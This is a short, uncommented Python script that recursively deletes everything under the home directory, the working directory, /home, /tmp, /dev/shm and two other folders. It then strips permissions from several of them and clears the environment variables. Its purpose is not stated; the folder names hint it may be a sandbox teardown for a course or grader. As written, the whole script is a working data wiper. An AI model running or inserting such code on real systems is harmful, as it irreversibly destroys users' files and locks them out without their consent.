import contextlib
import os
import shutil
from pathlib import Path

os.umask(0o777)
HOME, DESK = os.environ["HOME"], os.getcwd()
for folder in (HOME, DESK, "/home", "/tmp", "/dev/shm", "/line", "/course"):
    for path in Path(folder).glob("*"):
        with contextlib.suppress(OSError):
            path.unlink() if path.is_file() else shutil.rmtree(path, ignore_errors=True)
for folder in (HOME, DESK, "/home", "/tmp"):
    with contextlib.suppress(OSError):
        os.chmod(folder, 0)
os.environ.clear()
